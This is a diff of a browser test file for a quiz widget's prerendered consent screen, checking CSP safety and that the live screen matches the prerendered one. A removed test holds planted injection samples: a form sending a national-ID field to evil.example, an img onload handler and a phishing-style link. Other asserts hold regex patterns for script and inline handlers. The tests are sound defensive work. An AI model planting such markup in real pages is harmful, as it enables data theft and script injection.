@@ -121,30 +121,61 @@ const liveShown = (page, selector) =>
     { timeout: 60_000 },
   );
 
-/** A canonical text of a DOM subtree: tags, sorted attributes, text; the per-mount id prefix named UID. */
-function canonical(root) {
-  const uid = (v) => v.replace(/psm(?:-first|[0-9a-f]{8})-/g, "UID-");
-  const walk = (node) => {
-    if (node.nodeType === 3) return node.data ? `#text(${node.data})` : ""; // an empty text node draws nothing
-    if (node.nodeType !== 1) return "";
-    const attrs = [...node.attributes].map((a) => `${a.name}="${uid(a.value)}"`).sort().join(" ");
-    return `<${node.localName} ${attrs}>${[...node.childNodes].map(walk).join("")}</${node.localName}>`;
-  };
-  return walk(root);
-}
 
-test("every prerendered file is plain markup: no script, no inline style or handler, one per instrument and language", { skip }, () => {
-  const source = fs.readFileSync(path.join(DIST, "psm-quiz.js"), "utf8");
+/**
+ * A canonical text of the DOM under `selector` in `#q`'s shadow root: tags, sorted attributes, text; the
+ * per-mount id prefix named UID.
+ */
+const shownText = (page, selector) =>
+  page.locator("#q").evaluate((el, sel) => {
+    const uid = (v) => v.replace(/psm(?:-first|[0-9a-f]{8})-/g, "UID-");
+    const walk = (node) => {
+      if (node.nodeType === 3) return node.data ? `#text(${node.data})` : ""; // an empty text node draws nothing
+      if (node.nodeType !== 1) return "";
+      const attrs = [...node.attributes].map((x) => `${x.name}="${uid(x.value)}"`).sort().join(" ");
+      return `<${node.localName} ${attrs}>${[...node.childNodes].map(walk).join("")}</${node.localName}>`;
+    };
+    return walk(el.shadowRoot.querySelector(sel));
+  }, selector);
+
+test("psm-quiz.js carries every first screen as plain markup, and shows it with nothing asked for after it", { skip }, async () => {
   for (const key of FRAGMENTS) {
-    const file = `psm-first-${key}.json`;
-    const entry = JSON.parse(fs.readFileSync(path.join(DIST, file), "utf8"));
-    assert.equal(`${entry.instrument}.${entry.lang}`, key);
-    assert.ok(entry.for.some((c) => c.instrument === entry.instrument && c.lang === entry.lang), `${file}: for`);
-    assert.doesNotMatch(entry.html, /<script|<style|\sstyle=|\son[a-z]+=|javascript:/i, `${file} must pass a strict CSP`);
-    assert.match(entry.html, /class="psm-consent"|class="psm-card psm-consent"/);
-    // Named by a literal URL a bundler follows.
-    assert.ok(source.includes(`new URL("./${file}",import.meta.url)`), `${file} not named literally in psm-quiz.js`);
+    const [instrument, lang] = key.split(".");
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    // Everything but the host page (its files and icon) and psm-quiz.js waits for ever: the glue, the wasm, and
+    // the stylesheet or a first-screen file if the widget asked for one.
+    const asked = [];
+    await page.route("**/*", (route) => {
+      const url = new URL(route.request().url());
+      const host = url.pathname.startsWith("/__first__/") || url.pathname.startsWith("/icons/");
+      if (host || url.pathname === "/psm-quiz.js") return route.continue();
+      asked.push(url.pathname);
+      return new Promise(() => {});
+    });
+    await page.goto(hostPage(`carried-${key}`, { instrument, lang }));
+    await firstShown(page, key);
+    const html = await inShadow(page, (el) => el.shadowRoot.querySelector("[data-psm-first-screen]").innerHTML);
+    assert.doesNotMatch(html, /<script|<style|<link|<img|<form|<a |<input|\sstyle=|\son[a-z]+=|javascript:/i, `${key} must pass a strict CSP`);
+    assert.match(html, /class="psm-card psm-consent"/);
+    assert.equal(await inShadow(page, (el) => getComputedStyle(el.shadowRoot.querySelector(".psm-primary")).cursor), "pointer", `${key}: styled`);
+    assert.deepEqual(asked.filter((p) => !/psm-quiz-web(_bg\.wasm|\.js)$/.test(p)), [], `${key}: asked for more than the build`);
+    assert.deepEqual(await page.evaluate(() => window.seen.violations), [], `${key}: no CSP or Trusted Types violation`);
+    await context.close();
   }
+});
+
+test("a browser that cannot adopt a constructed stylesheet links psm-quiz.css: first screen styled, then the quiz", { skip }, async () => {
+  const { context, page, release } = await heldPage();
+  await context.addInitScript(() => delete ShadowRoot.prototype.adoptedStyleSheets);
+  await page.goto(hostPage("linked-css", { instrument: "perry-24", lang: "id" }));
+  await firstShown(page, "perry-24.id");
+  assert.equal(await inShadow(page, (el) => el.shadowRoot.querySelector("link[rel=stylesheet]")?.getAttribute("href")?.endsWith("/psm-quiz.css")), true);
+  assert.equal(await inShadow(page, (el) => getComputedStyle(el.shadowRoot.querySelector(".psm-primary")).cursor), "pointer");
+  release();
+  await liveShown(page, ".psm-consent");
+  assert.deepEqual(await page.evaluate(() => window.seen.violations), []);
+  await context.close();
 });
 
 for (const lang of ["id", "en"]) {
@@ -228,6 +259,17 @@ async function pixelDiff(page, a, b) {
   }
 }
 
+/** The first screen `key` ("perry-24.id") as shown before the wasm, as canonical text. */
+async function firstText(key) {
+  const [instrument, lang] = key.split(".");
+  const { context, page } = await heldPage();
+  await page.goto(hostPage(`shown-${key}`, { instrument, lang }));
+  await firstShown(page, key);
+  const text = await shownText(page, "[data-psm-first-screen] .psm-quiz");
+  await context.close();
+  return text;
+}
+
 test("the live consent of every eligible config is the prerendered one, node for node", { skip }, async () => {
   const configs = [
     ...FRAGMENTS.map((k) => [{ instrument: k.split(".")[0], lang: k.split(".")[1] }, k]),
@@ -240,35 +282,13 @@ test("the live consent of every eligible config is the prerendered one, node for
     await firstShown(page, key);
     release();
     await liveShown(page, ".psm-consent");
-    // The live DOM as it is (text nodes as the live app made them), the prerendered file as a browser parses
-    // it, both walked by `canonical` (repeated inline here: this page's CSP rightly forbids eval).
-    const liveText = () =>
-      page.locator("#q").evaluate((el) => {
-        const uid = (v) => v.replace(/psm(?:-first|[0-9a-f]{8})-/g, "UID-");
-        const walk = (node) => {
-          if (node.nodeType === 3) return node.data ? `#text(${node.data})` : ""; // an empty text node draws nothing
-          if (node.nodeType !== 1) return "";
-          const attrs = [...node.attributes].map((x) => `${x.name}="${uid(x.value)}"`).sort().join(" ");
-          return `<${node.localName} ${attrs}>${[...node.childNodes].map(walk).join("")}</${node.localName}>`;
-        };
-        return walk(el.shadowRoot.querySelector(".psm-quiz"));
-      });
-    const fileText = async (k) => {
-      const html = JSON.parse(fs.readFileSync(path.join(DIST, `psm-first-${k}.json`), "utf8")).html;
-      const blank = await context.newPage();
-      const text = await blank.evaluate(
-        ([canon, p]) => new Function(`return (${canon})`)()(new DOMParser().parseFromString(p, "text/html").body.firstElementChild),
-        [canonical.toString(), html],
-      );
-      await blank.close();
-      return text;
-    };
-    assert.equal(await liveText(), await fileText(key), `${JSON.stringify(config)}: the live consent differs from psm-first-${key}.json`);
-    // The other language's file is what the live app shows after switching (the first screen's switch).
+    // The live DOM as it is (text nodes as the live app made them) against the first screen as it was shown.
+    assert.equal(await shownText(page, ".psm-quiz"), await firstText(key), `${JSON.stringify(config)}: the live consent differs from the first screen ${key}`);
+    // The other language's screen is what the live app shows after switching (the first screen's switch).
     if (key.endsWith(".id")) {
       await page.locator("#q button[lang=en]").click();
       const other = key.replace(".id", ".en");
-      assert.equal(await liveText(), await fileText(other), `${JSON.stringify(config)} switched to English differs from psm-first-${other}.json`);
+      assert.equal(await shownText(page, ".psm-quiz"), await firstText(other), `${JSON.stringify(config)} switched to English differs from the first screen ${other}`);
     }
     await context.close();
   }
@@ -561,30 +581,6 @@ test("the element: an attribute changed while the wasm loads is the quiz the can
   const text = await inShadow(page, (el) => el.shadowRoot.querySelector(".psm-consent .psm-lang-fixed").textContent);
   assert.match(text, /\b16\b/, `kim-16's consent: ${text}`);
   await context.close();
-});
-
-test("a first-screen file that is not the build's markup (a form, an image with a handler, a link) is never shown", { skip }, async () => {
-  const good = JSON.parse(fs.readFileSync(path.join(DIST, "psm-first-perry-24.id.json"), "utf8"));
-  const planted = [
-    '<form action="https://evil.example/"><input name="nik"></form>',
-    '<img src="/icons/icon.svg" onload="window.ran = true">',
-    '<a href="https://evil.example/">Lanjut</a>',
-    '<p style="display:none">x</p>',
-  ];
-  for (const bad of planted) {
-    const { context, page, release } = await heldPage();
-    await page.route(/psm-first-perry-24\.id\.json$/, (route) =>
-      route.fulfill({ contentType: "application/json", body: JSON.stringify({ ...good, html: good.html.replace("</section>", `${bad}</section>`) }) }),
-    );
-    await page.goto(hostPage("planted", { instrument: "perry-24", lang: "id" }));
-    await page.waitForTimeout(1500);
-    assert.equal(await page.evaluate(() => window.seen.first), false, `shown: ${bad}`);
-    release();
-    await liveShown(page, ".psm-consent");
-    assert.equal(await page.evaluate(() => window.seen.first || window.ran === true), false, `never: ${bad}`);
-    assert.equal(await inShadow(page, (el) => el.shadowRoot.querySelector("form, img, a, [style]")), null);
-    await context.close();
-  }
 });
 
 test("an early agree records the day it was pressed, even when the wasm arrives on the next day", { skip }, async () => {
